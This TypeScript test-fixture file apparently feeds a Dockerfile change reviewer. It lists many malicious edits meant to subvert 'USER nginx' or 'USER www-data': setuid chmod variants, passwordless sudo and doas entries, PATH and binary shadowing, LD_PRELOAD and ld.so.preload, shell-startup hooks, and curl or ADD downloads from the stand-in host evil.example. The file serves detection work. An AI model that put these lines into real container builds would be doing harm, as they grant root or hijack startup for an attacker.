import type { Files } from "../../app/changes-between.ts";
import type { Change } from "../change.ts";
import { apache, DOCKERFILE, EVIL, edited, httpdConf, IMAGE, plain } from "../repos.ts";

const evil: Files = { [`${IMAGE}/html/e.conf`]: EVIL };
const START = "exec /usr/sbin/nginx -c /usr/share/nginx/html/e.conf -g 'daemon off;'";
const SCRIPT = `#!/bin/sh\n${START}\n`;
const script = (name: string): Files => ({ [`${IMAGE}/${name}`]: { text: SCRIPT, kind: "executable" } });
const CMD = 'CMD ["nginx", "-g", "daemon off;"]';

interface Way {
  readonly more?: Files;
  /** Lines before USER nginx. */
  readonly lines?: string;
  readonly cmd?: string;
}

const setId: Readonly<Record<string, Way>> = Object.fromEntries(
  Object.entries({
    "u+s": "chmod u+s /usr/sbin/nginx",
    "+s": "chmod +s /usr/sbin/nginx",
    "ug+s": "chmod ug+s /usr/sbin/nginx",
    "=s": "chmod u=rwxs,go=rx /usr/sbin/nginx",
    "4755": "chmod 4755 /usr/sbin/nginx",
    "04755": "chmod 04755 /usr/sbin/nginx",
    "6755": "chmod 6755 /usr/sbin/nginx",
    "in its folder": "cd /usr/sbin && chmod u+s nginx",
    "of all": "chmod u+s /usr/sbin/*",
    "of the folder": "chmod -R u+s /usr/sbin",
    "by find": "find /usr/sbin -name nginx -exec chmod u+s {} +",
    "by xargs": "which nginx | xargs chmod u+s",
    "by which": 'chmod u+s "$(which nginx)"',
    "by command -v": 'chmod u+s "$(command -v nginx)"',
    "by a variable": "P=/usr/sbin/nginx; chmod 4755 $P",
    "by a link": "ln -s /usr/sbin/nginx /n && chmod u+s /n",
    "by another file": "chmod --reference=/bin/su /usr/sbin/nginx",
    "by install": "install -o root -m 4755 /usr/sbin/nginx /tmp/n && mv /tmp/n /usr/sbin/nginx",
    "by cp": "cp /usr/sbin/nginx /tmp/n && chmod 4755 /tmp/n && cp -p /tmp/n /usr/sbin/nginx",
    "by python": `python3 -c "import os; os.chmod('/usr/sbin/nginx', 0o4755)"`,
    "by perl": "perl -e 'chmod 04755, \"/usr/sbin/nginx\"'",
    "by dpkg": "dpkg-statoverride --update --add root root 4755 /usr/sbin/nginx",
    "by busybox": "busybox chmod u+s /usr/sbin/nginx",
    "by setcap":
      "setcap cap_setuid,cap_setgid,cap_dac_override+ep /usr/sbin/nginx && chmod u+s /usr/sbin/nginx",
    "through proc": "chmod u+s /proc/self/root/usr/sbin/nginx",
  }).map(([name, line]): [string, Way] => [`set-id ${name}`, { lines: `RUN ${line}` }]),
);

const setIdByOthers: Readonly<Record<string, Way>> = {
  "set-id COPY --chmod": {
    more: { [`${IMAGE}/nginx`]: "\u007fELF\u0000\u0000" },
    lines: "COPY --chmod=4755 nginx /usr/sbin/nginx",
  },
  "set-id of another stage": {
    lines: "COPY --from=nginx:1.27 --chmod=4755 /usr/sbin/nginx /usr/sbin/nginx",
  },
  "set-id shell that starts": {
    lines: "RUN cp /bin/bash /bin/b && chmod u+s /bin/b",
    cmd: `CMD ["/bin/b", "-p", "-c", "exec nginx -g 'daemon off;'"]`,
  },
  "sudo that starts": {
    lines:
      "RUN apt-get update && apt-get install -y sudo && echo 'nginx ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x",
    cmd: `CMD ["sudo", "nginx", "-g", "daemon off;"]`,
  },
  "sudo of a shell that starts": {
    lines:
      "RUN apt-get update && apt-get install -y sudo && echo 'nginx ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
    cmd: "CMD sudo -E nginx -g 'daemon off;'",
  },
  "doas that starts": {
    lines: "RUN apt-get update && apt-get install -y opendoas && echo 'permit nopass nginx' > /etc/doas.conf",
    cmd: `CMD ["doas", "nginx", "-g", "daemon off;"]`,
  },
};

const shadows: Readonly<Record<string, Way>> = {
  "PATH leads elsewhere": {
    more: script("bin/nginx"),
    lines: "ENV PATH=/opt/bin:$PATH\nCOPY bin/ /opt/bin/",
  },
  "PATH of the old form": {
    more: script("bin/nginx"),
    lines: "ENV PATH /opt/bin:$PATH\nCOPY bin/ /opt/bin/",
  },
  "PATH of a variable": {
    more: script("bin/nginx"),
    lines: "ARG D=/opt/bin\nENV PATH=$D:$PATH\nCOPY bin/ /opt/bin/",
  },
  "PATH of nothing": { more: script("nginx"), lines: "ENV PATH=:$PATH\nWORKDIR /opt\nCOPY nginx /opt/" },
  "PATH of the folder": { more: script("nginx"), lines: "ENV PATH=.:$PATH\nWORKDIR /opt\nCOPY nginx ." },
  "PATH of the web root": {
    more: script("html/bin/nginx"),
    lines: "ENV PATH=/usr/share/nginx/html/bin:$PATH",
  },
  "/usr/local/sbin": { more: script("nginx"), lines: "COPY nginx /usr/local/sbin/nginx" },
  "/usr/local/bin": { more: script("nginx"), lines: "COPY nginx /usr/local/bin/" },
  "/usr/local by a folder": { more: script("local/bin/nginx"), lines: "COPY local/ /usr/local/" },
  "the root by a folder": { more: script("rootfs/usr/local/sbin/nginx"), lines: "COPY rootfs/ /" },
  "the program itself": {
    more: {
      [`${IMAGE}/nginx`]: {
        text: "#!/bin/sh\nexec /usr/sbin/nginx.real -c /usr/share/nginx/html/e.conf -g 'daemon off;'\n",
        kind: "executable",
      },
    },
    lines: "RUN mv /usr/sbin/nginx /usr/sbin/nginx.real\nCOPY nginx /usr/sbin/nginx",
  },
  "the program by mv": {
    more: {
      [`${IMAGE}/nginx`]: {
        text: "#!/bin/sh\nexec /usr/sbin/nginx.real -c /usr/share/nginx/html/e.conf -g 'daemon off;'\n",
        kind: "executable",
      },
    },
    lines:
      "COPY nginx /tmp/nginx\nRUN mv /usr/sbin/nginx /usr/sbin/nginx.real && mv /tmp/nginx /usr/sbin/nginx",
  },
  "a link on the PATH": {
    more: script("html/run"),
    lines: "RUN ln -s /usr/share/nginx/html/run /usr/local/bin/nginx",
  },
  "a printed script": {
    lines: `RUN printf '#!/bin/sh\\n${START.replaceAll("'", '"')}\\n' > /usr/local/bin/nginx && chmod +x /usr/local/bin/nginx`,
  },
  "a heredoc": { lines: `COPY --chmod=755 <<EOF /usr/local/bin/nginx\n${SCRIPT}EOF` },
  "a download": { lines: "ADD --chmod=755 https://evil.example/nginx /usr/local/bin/nginx" },
  "a download by curl": {
    lines: "RUN curl -fsSLo /usr/local/bin/nginx https://evil.example/x && chmod +x /usr/local/bin/nginx",
  },
  "another image's folder": { lines: "COPY --from=evil/tools:1 /usr/local /usr/local" },
  install: {
    more: script("html/run"),
    lines: "RUN install -m 755 /usr/share/nginx/html/run /usr/local/bin/nginx",
  },
  "the entrypoint": { more: script("run"), lines: "COPY run /docker-entrypoint.sh" },
  "the entrypoint by sed": {
    lines: "RUN sed -i 's,exec \"$@\",exec nginx -c /usr/share/nginx/html/e.conf,' /docker-entrypoint.sh",
  },
  "the shell of the entrypoint": { more: script("run"), lines: "COPY run /bin/sh" },
  "a program of the entrypoint": {
    more: script("run"),
    lines: "COPY run /usr/local/bin/find",
  },
};

const environment: Readonly<Record<string, Way>> = {
  BASH_ENV: {
    more: { [`${IMAGE}/html/x`]: START },
    lines: "ENV BASH_ENV=/usr/share/nginx/html/x",
    cmd: `CMD ["bash", "-c", "exec nginx -g 'daemon off;'"]`,
  },
  "BASH_ENV and SHELL": {
    more: { [`${IMAGE}/html/x`]: START },
    lines: 'ENV BASH_ENV=/usr/share/nginx/html/x\nSHELL ["/bin/bash", "-c"]',
    cmd: "CMD nginx -g 'daemon off;'",
  },
  ENV: {
    more: { [`${IMAGE}/html/x`]: START },
    lines: "ENV ENV=/usr/share/nginx/html/x",
    cmd: `CMD ["sh", "-ic", "exec nginx -g 'daemon off;'"]`,
  },
  LD_PRELOAD: { more: { [`${IMAGE}/html/x.so`]: "x" }, lines: "ENV LD_PRELOAD=/usr/share/nginx/html/x.so" },
  "LD_PRELOAD of the old form": {
    more: { [`${IMAGE}/html/x.so`]: "x" },
    lines: "ENV LD_PRELOAD /usr/share/nginx/html/x.so",
  },
  LD_LIBRARY_PATH: {
    more: { [`${IMAGE}/html/libc.so.6`]: "x" },
    lines: "ENV LD_LIBRARY_PATH=/usr/share/nginx/html",
  },
  LD_AUDIT: { more: { [`${IMAGE}/html/x.so`]: "x" }, lines: "ENV LD_AUDIT=/usr/share/nginx/html/x.so" },
  "ld.so.preload": {
    more: { [`${IMAGE}/html/x.so`]: "x" },
    lines: "RUN echo /usr/share/nginx/html/x.so > /etc/ld.so.preload",
  },
  "ld.so.preload by COPY": {
    more: { [`${IMAGE}/html/x.so`]: "x", [`${IMAGE}/p`]: "/usr/share/nginx/html/x.so\n" },
    lines: "COPY p /etc/ld.so.preload",
  },
  "LD_PRELOAD of env": {
    more: { [`${IMAGE}/html/x.so`]: "x" },
    cmd: `CMD ["env", "LD_PRELOAD=/usr/share/nginx/html/x.so", "nginx", "-g", "daemon off;"]`,
  },
  "LD_PRELOAD of a script": {
    more: { [`${IMAGE}/html/x.so`]: "x" },
    cmd: "CMD LD_PRELOAD=/usr/share/nginx/html/x.so exec nginx -g 'daemon off;'",
  },
  "LD_PRELOAD exported": {
    more: { [`${IMAGE}/html/x.so`]: "x" },
    cmd: "CMD export LD_PRELOAD=/usr/share/nginx/html/x.so; exec nginx -g 'daemon off;'",
  },
  "an exported function": {
    lines: `ENV BASH_FUNC_nginx%%="() { ${START}; }"`,
    cmd: `CMD ["bash", "-c", "nginx -g 'daemon off;'"]`,
  },
  "SHELL with a command": {
    lines:
      'SHELL ["/bin/bash","-c","cp /usr/share/nginx/html/e.conf /etc/nginx/nginx.conf; eval \\"$0\\""]\nRUN true',
  },
  "SHELL with a script": { more: script("s"), lines: 'COPY s /s\nSHELL ["/s"]\nRUN true' },
  "SHELL of another language": { lines: 'SHELL ["python3","-c"]\nRUN open("/etc/nginx/nginx.conf","w")' },
  "SHELL of the start": { lines: `SHELL ["/bin/bash","-c","${START}"]`, cmd: "CMD nginx -g 'daemon off;'" },
  "SHELL with a login": {
    more: { [`${IMAGE}/p.sh`]: START },
    lines: 'COPY p.sh /etc/profile.d/p.sh\nSHELL ["/bin/bash","-lc"]',
    cmd: "CMD nginx -g 'daemon off;'",
  },
  "bash -l": {
    more: { [`${IMAGE}/p.sh`]: START },
    lines: "COPY p.sh /etc/profile.d/p.sh",
    cmd: `CMD ["bash", "-lc", "exec nginx -g 'daemon off;'"]`,
  },
  "bash --login": {
    more: { [`${IMAGE}/p.sh`]: START },
    lines: "COPY p.sh /etc/profile",
    cmd: `CMD ["bash", "--login", "-c", "exec nginx -g 'daemon off;'"]`,
  },
  "sh -l": {
    more: { [`${IMAGE}/p.sh`]: START },
    lines: "COPY p.sh /etc/profile.d/p.sh",
    cmd: `CMD ["sh", "-lc", "exec nginx -g 'daemon off;'"]`,
  },
  "su -": {
    more: { [`${IMAGE}/p.sh`]: START },
    lines: "COPY p.sh /etc/profile.d/p.sh",
    cmd: `CMD ["su", "-", "nginx", "-s", "/bin/sh", "-c", "exec nginx -g 'daemon off;'"]`,
  },
  "bash -i": {
    more: { [`${IMAGE}/p.sh`]: START },
    lines: "COPY p.sh /etc/bash.bashrc",
    cmd: `CMD ["bash", "-ic", "exec nginx -g 'daemon off;'"]`,
  },
  "bash --rcfile": {
    more: { [`${IMAGE}/html/x`]: START },
    cmd: `CMD ["bash", "--rcfile", "/usr/share/nginx/html/x", "-ic", "exec nginx -g 'daemon off;'"]`,
  },
  "a sourced file redefines the name": {
    more: {
      [`${IMAGE}/html/lib.sh`]: `nginx() { ${START}; }\n`,
      [`${IMAGE}/run.sh`]: {
        text: "#!/bin/sh\n. /usr/share/nginx/html/lib.sh\nnginx -g 'daemon off;'\n",
        kind: "executable",
      },
    },
    lines: "COPY run.sh /run.sh",
    cmd: 'CMD ["/run.sh"]',
  },
  "a function of the start": { cmd: `CMD nginx() { ${START}; }; nginx -g 'daemon off;'` },
  "an alias of the start": {
    cmd: `CMD alias nginx="nginx -c /usr/share/nginx/html/e.conf"\nnginx -g 'daemon off;'`,
  },
  "eval at the start": {
    cmd: `CMD eval "$(cat /usr/share/nginx/html/x)"; exec nginx -g 'daemon off;'`,
    more: { [`${IMAGE}/html/x`]: START },
  },
  "PATH of the start": {
    more: script("html/nginx"),
    cmd: "CMD export PATH=/usr/share/nginx/html:$PATH; exec nginx -g 'daemon off;'",
  },
  "PATH of env": {
    more: script("html/nginx"),
    cmd: `CMD ["env", "PATH=/usr/share/nginx/html:/usr/bin:/bin", "nginx", "-g", "daemon off;"]`,
  },
  "templates of the entrypoint": {
    more: { [`${IMAGE}/t/nginx.conf.template`]: EVIL },
    lines:
      "COPY t/ /etc/nginx/templates/\nENV NGINX_ENVSUBST_OUTPUT_DIR=/etc/nginx\nRUN chown -R nginx /etc/nginx",
  },
};

function changed(base: Files, { more = {}, lines = "", cmd }: Way, user = "USER nginx"): Files {
  const head = edited({ ...base, ...more }, DOCKERFILE, [user, `${lines}${lines === "" ? "" : "\n"}${user}`]);
  return cmd === undefined ? head : edited(head, DOCKERFILE, [CMD, cmd]);
}

const ofNginx = Object.entries({ ...setId, ...setIdByOthers, ...shadows, ...environment }).map(
  ([name, way]): Change => ({
    name,
    base: plain,
    head: changed(plain, { ...way, more: { ...evil, ...way.more } }),
  }),
);

const APACHE = `#!/bin/sh\nexec /usr/local/apache2/bin/httpd -DFOREGROUND -f /usr/local/apache2/htdocs/e.conf\n`;

const apacheWays: Readonly<Record<string, Way>> = {
  "set-id": { lines: "RUN chmod u+s /usr/local/apache2/bin/httpd" },
  "httpd-foreground": {
    more: { [`${IMAGE}/f`]: APACHE },
    lines: "COPY --chmod=755 f /usr/local/bin/httpd-foreground",
  },
  LD_PRELOAD: { lines: "ENV LD_PRELOAD=/usr/local/apache2/htdocs/x.so" },
};

const ofApache = Object.entries(apacheWays).map(
  ([name, way]): Change => ({
    name: `Apache: ${name}`,
    base: apache,
    head: changed(
      apache,
      { ...way, more: { [`${IMAGE}/html/e.conf`]: httpdConf(80), ...way.more } },
      "USER www-data",
    ),
  }),
);

export const programs = [...ofNginx, ...ofApache];
